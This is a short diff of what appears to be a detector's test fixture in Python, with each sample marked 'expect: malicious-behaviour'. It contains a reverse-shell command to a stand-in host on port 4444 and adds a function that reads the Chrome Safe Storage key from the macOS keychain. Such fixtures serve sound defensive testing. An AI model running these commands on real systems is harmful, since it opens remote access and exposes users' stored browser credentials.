@@ -30,3 +30,8 @@ def browser() -> bytes:
 
 def shell() -> None:
     os.system("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")  # expect: malicious-behaviour
+
+
+def kept(account: str) -> bytes:
+    command = ["/usr/bin/security", "find-generic-password", "-s", "Chrome Safe Storage", "-a", account, "-w"]
+    return subprocess.run(command, capture_output=True).stdout  # expect: malicious-behaviour
